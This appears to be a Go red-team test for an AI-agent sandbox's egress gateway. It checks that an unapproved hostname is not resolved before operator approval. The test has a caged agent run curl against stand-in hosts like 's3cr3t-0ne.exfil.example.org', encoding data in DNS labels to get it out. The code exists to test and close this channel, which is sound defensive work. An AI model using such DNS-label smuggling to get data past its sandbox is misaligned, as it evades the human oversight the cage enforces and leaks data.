package egress

import (
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/nixcage/nixcage/internal/egress/audit"
	"github.com/nixcage/nixcage/internal/testenv"
)

// TestApprovalAsksBeforeResolving (red team): with an approval queue, a
// request for a name the policy does not list must not make the gateway
// resolve that name before an operator approved it. A resolution is a DNS
// query leaving the host with labels the agent chose, which is the
// exfiltration channel the cage's DNS filter closes (THREATS.md: "data
// smuggled in labels"): the agent, with curl in the cage's own network
// namespace, puts data into the first label of an unlisted name on
// CONNECT and on plain HTTP, and no DNS server sees it.
func TestApprovalAsksBeforeResolving(t *testing.T) {
	testenv.RequirePrivileged(t)
	curl := testenv.LookPath(t, "curl")
	h := setupHarness(t, approvalRuntime(1))
	agent, _ := startCage(t, h)
	tp, plain := strconv.Itoa(h.up.tlsPort), strconv.Itoa(h.up.httpPort)
	codeRE := regexp.MustCompile(`HTTPCODE=(\d+)`)
	get := func(url string) int {
		out, _ := agent(curl, "-sS", "--max-time", "20", "--proxy", "http://127.0.0.1:3128", "--cacert", h.up.rootsFile, "-w", "\nHTTPCODE=%{http_code}\n", url)
		if m := codeRE.FindStringSubmatch(out); m != nil {
			c, _ := strconv.Atoi(m[1])
			return c
		}
		return 0
	}
	secrets := map[string]string{
		"https://s3cr3t-0ne.exfil.example.org:" + tp + "/":   "s3cr3t-0ne",
		"http://s3cr3t-tw0.exfil.example.org:" + plain + "/": "s3cr3t-tw0",
	}
	for url, label := range secrets {
		if code := get(url); code == 200 {
			t.Fatalf("%s: allowed without an approval", url)
		}
		h.dns.mu.Lock()
		var leaked []string
		for _, m := range h.dns.msgs {
			if strings.Contains(strings.ToLower(m.Question[0].Name), label) {
				leaked = append(leaked, m.Question[0].Name)
			}
		}
		h.dns.mu.Unlock()
		if len(leaked) > 0 {
			t.Errorf("%s: the gateway resolved an unapproved name; the DNS server received %v", url, leaked)
		}
		// Refused after the wait, the operator having said nothing.
		h.want(t, func(r audit.Record) bool {
			return strings.HasPrefix(r.Host, label) && r.Decision == audit.Blocked
		}, audit.Blocked, "approval-timeout")
	}
}
